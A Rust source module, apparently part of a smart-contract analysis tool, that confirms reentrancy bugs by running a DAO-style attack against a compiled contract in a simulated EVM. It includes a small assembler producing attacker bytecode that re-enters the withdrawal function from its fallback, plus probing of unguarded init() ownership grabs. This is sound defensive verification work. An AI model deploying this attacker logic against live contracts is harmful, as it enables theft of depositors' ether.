//! The reentrancy attack run: the DAO's attack, played against the compiled contract.
//!
//! Another account (a victim) deposits first, so there is something to take. Then an attacker
//! contract, written here in EVM assembly, deposits one of [`DEPOSITS`] through one payable
//! function and calls the flagged function asking for that amount back. Whenever the contract pays it, the
//! attacker's fallback calls the flagged function again (at most [`REENTRIES`] times). The attack
//! worked when the attacker ends with more ether than it deposited. Every payable function is
//! tried as the deposit, with integer arguments first set to the deposit (`deposit(amount)` that
//! must match the value sent) and then to one (`put(lockUntil)` with a lock already passed); one
//! ether first, then ten (for a minimum deposit: `if (msg.value > MinDeposit)` with one ether).
//! A payout by `transfer` or `send` forwards 2,300 gas: the attacker cannot re-enter with it,
//! and such a run is (rightly) not a confirmation.
//!
//! Two set-ups come first where the contract needs them. The deployer points it at its file's
//! other contracts: each function taking only addresses is called once by the deployer with
//! theirs (`SetLogFile(address)`: a bank whose every deposit and payout calls its log reverts
//! while the log is unset, as it would on chain). And the attacker may first call one of the
//! contract's argument-free functions (an `init()` anyone can call that makes its caller the
//! owner the payout is guarded by): tried after the attack without it fails.

use super::{Chain, DEPLOYER, STRANGER, Subject, call_data};
use alloy_dyn_abi::{DynSolValue, JsonAbiExt as _};
use alloy_json_abi::{Function, JsonAbi, StateMutability};
use alloy_primitives::{Address, TxKind, U256, address};
use revm::{bytecode::Bytecode, state::AccountInfo};

/// Deposits before the attack, so that the contract holds other people's ether.
pub(super) const VICTIM: Address = address!("0x00000000000000000000000000000000000b1c71");
/// Where the attacker contract lives.
pub(super) const ATTACKER: Address = address!("0x00000000000000000000000000000000a77ac4e2");
/// One ether, in wei.
pub(super) const ETHER: u128 = 1_000_000_000_000_000_000;
/// What the attacker deposits and asks back, in the order tried: one ether, then ten for
/// contracts with a minimum above one.
const DEPOSITS: [u128; 2] = [ETHER, 10 * ETHER];
/// How many times the attacker re-enters before it lets the payout finish.
const REENTRIES: u8 = 3;

/// `wei` in ether, for messages: `1 ether`, `2.5 ether`.
pub fn ether(wei: u128) -> String {
    let whole = wei / ETHER;
    let tenths = (wei % ETHER) * 10 / ETHER;
    match tenths {
        0 => format!("{whole} ether"),
        _ => format!("{whole}.{tenths} ether"),
    }
}

/// What the attacker deposited, the wei it left with and the function it called first, when
/// the attack on `function` worked before `deadline`.
pub(super) fn drained(
    subject: &Subject<'_>,
    function: &Function,
    deadline: std::time::Instant,
) -> Option<(u128, u128, Option<String>)> {
    let abi = subject.abi;
    let deposits = deposits(abi, function);
    let setups = std::iter::once(None).chain(
        abi.functions()
            .filter(|f| {
                f.inputs.is_empty()
                    && f.name != function.name
                    && f.state_mutability == StateMutability::NonPayable
            })
            .map(Some),
    );
    for setup in setups {
        for amount in DEPOSITS {
            for deposit in &deposits {
                for integers in [U256::from(amount), U256::from(1)] {
                    if std::time::Instant::now() > deadline {
                        return None;
                    }
                    let run = Run {
                        function,
                        deposit: *deposit,
                        setup,
                        amount,
                        integers,
                    };
                    if let Some(taken) = attack(subject, &run) {
                        return Some((amount, taken, setup.map(|f| f.name.clone())));
                    }
                }
            }
        }
    }
    None
}

/// The ways to pay the contract besides `function`: each payable function, and `None` for a
/// plain transfer when a payable fallback or `receive` takes it.
pub(super) fn deposits<'a>(abi: &'a JsonAbi, function: &Function) -> Vec<Option<&'a Function>> {
    abi.functions()
        .filter(|f| f.state_mutability == StateMutability::Payable && f.name != function.name)
        .map(Some)
        .chain(
            (abi.fallback
                .is_some_and(|f| f.state_mutability == StateMutability::Payable)
                || abi.receive.is_some())
            .then_some(None),
        )
        .collect()
}

/// The call data of paying the contract through `deposit` (integers set to `integers`,
/// addresses to `who`); empty for a plain transfer.
pub(super) fn deposit_data(
    deposit: Option<&Function>,
    who: Address,
    integers: U256,
) -> Option<Vec<u8>> {
    match deposit {
        Some(f) => call_data(f, who, integers),
        None => Some(Vec::new()),
    }
}

/// One attack: what is deposited through which function, and what the attacker calls first.
struct Run<'a> {
    function: &'a Function,
    deposit: Option<&'a Function>,
    setup: Option<&'a Function>,
    amount: u128,
    integers: U256,
}

fn attack(subject: &Subject<'_>, run: &Run<'_>) -> Option<u128> {
    let Run {
        function,
        deposit,
        setup,
        amount,
        integers,
    } = *run;
    let mut chain = Chain::new(&[DEPLOYER, STRANGER, VICTIM]);
    let (target, companions) = chain.deploy_beside(subject)?;
    configure(&mut chain, subject, target, &companions);
    let withdraw = call_data(function, ATTACKER, U256::from(amount))?;
    let runtime = attacker(target, &withdraw);
    chain.db.insert_account_info(
        ATTACKER,
        AccountInfo::default().with_code(Bytecode::new_raw(runtime.into())),
    );
    if let Some(setup) = setup {
        let data = call_data(setup, ATTACKER, U256::from(1))?;
        if !chain
            .run(STRANGER, TxKind::Call(ATTACKER), data, U256::ZERO)?
            .is_success()
        {
            return None;
        }
    }
    let deposit_data = |who| deposit_data(deposit, who, integers);
    // The victim deposits twice what the attacker will (in deposits of the same size, for
    // `deposit(amount)` that must match the value). They may fail (a contract that takes one
    // depositor); the attack may still take the deployer's ether.
    for _ in 0..2 {
        chain.run(
            VICTIM,
            TxKind::Call(target),
            deposit_data(VICTIM)?,
            U256::from(amount),
        )?;
    }
    // The attacker's own deposit, through its proxy path.
    let deposited = chain.run(
        STRANGER,
        TxKind::Call(ATTACKER),
        deposit_data(ATTACKER)?,
        U256::from(amount),
    )?;
    let put_in = if deposited.is_success() { amount } else { 0 };
    let before = chain.balance(ATTACKER);
    let attacked = chain.run(STRANGER, TxKind::Call(ATTACKER), withdraw, U256::ZERO)?;
    let reentered = chain.storage(ATTACKER, U256::ZERO) > U256::ZERO;
    let taken = u128::try_from(chain.balance(ATTACKER).saturating_sub(before)).ok()?;
    (attacked.is_success() && reentered && taken > put_in).then_some(taken)
}

/// The deployer calls each function of the subject that takes only addresses (at least one)
/// with its companions' addresses in turn; failures are ignored (a setter may be guarded or
/// meant for something else).
pub(super) fn configure(
    chain: &mut Chain,
    subject: &Subject<'_>,
    target: Address,
    companions: &[Address],
) {
    if companions.is_empty() {
        return;
    }
    let setters = subject.abi.functions().filter(|f| {
        !f.inputs.is_empty()
            && f.inputs.iter().all(|p| p.ty == "address")
            && f.state_mutability == StateMutability::NonPayable
    });
    for setter in setters {
        let mut next = companions.iter().cycle();
        let args: Vec<DynSolValue> = setter
            .inputs
            .iter()
            .filter_map(|_| next.next().map(|a| DynSolValue::Address(*a)))
            .collect();
        if let Ok(data) = setter.abi_encode_input(&args) {
            let _ = chain.run(DEPLOYER, TxKind::Call(target), data, U256::ZERO);
        }
    }
}

/// The attacker's runtime code. Called by anyone but `target`, it forwards the call and its value
/// to `target` (reverting with the target's revert data when that fails). Called by `target` (a
/// payout), it calls `target` again with `reenter` while its counter in slot 0 is below
/// [`REENTRIES`], and otherwise accepts the ether.
pub(super) fn attacker(target: Address, reenter: &[u8]) -> Vec<u8> {
    let mut asm = Assembler::default();
    asm.op(CALLER).push_address(target).op(EQ);
    asm.jump_if("reenter");
    // Proxy: call(gas, target, callvalue, 0, calldatasize, 0, 0).
    asm.op(CALLDATASIZE).push(0).push(0).op(CALLDATACOPY);
    asm.push(0).push(0).op(CALLDATASIZE).push(0).op(CALLVALUE);
    asm.push_address(target).op(GAS).op(CALL);
    asm.jump_if("forwarded");
    asm.op(RETURNDATASIZE).push(0).push(0).op(RETURNDATACOPY);
    asm.op(RETURNDATASIZE).push(0).op(REVERT);
    asm.label("forwarded").op(STOP);
    // Paid by the target: count, and call it again while the count allows.
    asm.label("reenter")
        .push(0)
        .op(SLOAD)
        .push(REENTRIES)
        .op(DUP2)
        .op(LT)
        .op(ISZERO);
    asm.jump_if("accept");
    asm.push(1).op(ADD).push(0).op(SSTORE);
    asm.push_length(reenter.len())
        .push_label("payload")
        .push(0)
        .op(CODECOPY);
    asm.push(0)
        .push(0)
        .push_length(reenter.len())
        .push(0)
        .push(0);
    asm.push_address(target).op(GAS).op(CALL).op(POP).op(STOP);
    asm.label("accept").op(STOP);
    asm.label_data("payload", reenter);
    asm.finish()
}

const STOP: u8 = 0x00;
const ADD: u8 = 0x01;
const LT: u8 = 0x10;
const EQ: u8 = 0x14;
const ISZERO: u8 = 0x15;
const CALLER: u8 = 0x33;
const CALLVALUE: u8 = 0x34;
const CALLDATASIZE: u8 = 0x36;
const CALLDATACOPY: u8 = 0x37;
const CODECOPY: u8 = 0x39;
const RETURNDATASIZE: u8 = 0x3d;
const RETURNDATACOPY: u8 = 0x3e;
const POP: u8 = 0x50;
const SLOAD: u8 = 0x54;
const SSTORE: u8 = 0x55;
const JUMPI: u8 = 0x57;
const GAS: u8 = 0x5a;
const JUMPDEST: u8 = 0x5b;
const PUSH1: u8 = 0x60;
const PUSH2: u8 = 0x61;
const PUSH20: u8 = 0x73;
const DUP2: u8 = 0x81;
const CALL: u8 = 0xf1;
const REVERT: u8 = 0xfd;

/// Just enough of an assembler for [`attacker`]: opcodes, pushes, and two-byte label references
/// patched at the end.
#[derive(Default)]
struct Assembler {
    code: Vec<u8>,
    labels: std::collections::HashMap<&'static str, usize>,
    references: Vec<(usize, &'static str)>,
}

impl Assembler {
    fn op(&mut self, op: u8) -> &mut Self {
        self.code.push(op);
        self
    }

    fn push(&mut self, byte: u8) -> &mut Self {
        self.code.extend([PUSH1, byte]);
        self
    }

    fn push_length(&mut self, length: usize) -> &mut Self {
        let length = u16::try_from(length).unwrap_or(u16::MAX);
        self.code.push(PUSH2);
        self.code.extend(length.to_be_bytes());
        self
    }

    fn push_address(&mut self, address: Address) -> &mut Self {
        self.code.push(PUSH20);
        self.code.extend(address.as_slice());
        self
    }

    fn push_label(&mut self, label: &'static str) -> &mut Self {
        self.code.push(PUSH2);
        self.references.push((self.code.len(), label));
        self.code.extend([0, 0]);
        self
    }

    fn jump_if(&mut self, label: &'static str) -> &mut Self {
        self.push_label(label).op(JUMPI)
    }

    fn label(&mut self, label: &'static str) -> &mut Self {
        self.labels.insert(label, self.code.len());
        self.op(JUMPDEST)
    }

    /// Bytes placed at the end of the code, addressed by `label` (no `JUMPDEST`).
    fn label_data(&mut self, label: &'static str, data: &[u8]) -> &mut Self {
        self.labels.insert(label, self.code.len());
        self.code.extend(data);
        self
    }

    fn finish(mut self) -> Vec<u8> {
        for (at, label) in std::mem::take(&mut self.references) {
            let target = self.labels.get(label).copied().unwrap_or_default();
            let target = u16::try_from(target).unwrap_or(u16::MAX);
            self.code[at..at + 2].copy_from_slice(&target.to_be_bytes());
        }
        self.code
    }
}
